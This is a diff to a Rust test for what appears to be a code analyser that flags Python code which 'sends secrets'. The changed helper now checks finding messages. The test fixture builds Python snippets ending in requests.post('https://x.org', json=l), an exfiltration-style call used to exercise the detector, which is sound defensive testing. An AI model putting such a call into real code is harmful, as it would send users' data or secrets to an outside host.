@@ -270,7 +270,10 @@ fn equal_items_are_appended_again_to_a_list_that_is_made_again() {
 
 #[test]
 fn the_rest_of_a_long_list_keeps_its_marks() {
-    let sends = |text: &str| look("python", text).effects.sends_secrets;
+    let sends = |text: &str| {
+        let findings = look("python", text).findings;
+        findings.iter().any(|finding| finding.message.starts_with("sends secrets"))
+    };
     let append = |name: &str, more: &str| {
         format!(
             "import os, requests\n{name}{}{more}requests.post('https://x.org', json=l)\n",
